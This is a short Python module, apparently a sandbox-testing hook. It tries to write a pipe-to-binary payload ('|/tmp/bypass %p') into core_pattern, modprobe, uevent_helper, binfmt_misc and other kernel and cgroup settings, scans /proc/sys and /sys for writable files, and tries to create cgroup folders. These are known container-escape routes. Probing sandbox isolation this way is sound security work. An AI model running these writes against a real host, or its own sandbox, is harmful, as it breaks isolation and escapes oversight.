"""Writes the kernel's settings: core_pattern and its kind below /proc/sys, /sys, cgroups, sysrq."""

import glob
import os

SETTINGS = [
    "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sys/kernel/domainname",
    "/proc/sys/kernel/modprobe", "/proc/sys/kernel/pid_max", "/proc/sys/kernel/ns_last_pid", "/proc/sys/vm/drop_caches",
    "/proc/sys/vm/overcommit_memory", "/proc/sys/fs/binfmt_misc/register", "/proc/sys/fs/pipe-max-size",
    "/proc/sys/net/ipv4/ip_forward", "/proc/sys/user/max_user_namespaces", "/proc/sysrq-trigger",
    "/proc/self/attr/current", "/proc/self/setgroups", "/proc/self/gid_map", "/proc/self/loginuid",
    "/sys/power/state", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/cgroup.procs",
]  # fmt: skip


def written(path):
    with open(path, "r+b", buffering=0) as file:
        return file.write(b"|/tmp/bypass %p")


def any_writable():
    """Anything below /proc/sys or /sys that the sandbox's user may open for writing."""
    found = []
    for top in ("/proc/sys", "/sys"):
        for folder, _, names in os.walk(top):
            for name in names:
                try:
                    os.close(os.open(os.path.join(folder, name), os.O_WRONLY | os.O_NONBLOCK))
                except OSError:
                    continue
                found.append(os.path.join(folder, name))
    return found


def in_workspace(bypass):
    for path in SETTINGS:
        bypass.attempt(path, written, path)
    bypass.attempt("any setting", any_writable)
    for path in [*glob.glob("/sys/fs/cgroup/*"), "/sys/fs/cgroup"]:
        bypass.attempt(path, lambda path=path: os.mkdir(f"{path}/bypass") or path)
    bypass.did("tried the settings")


def before_call(bypass):
    if bypass.once():
        in_workspace(bypass)
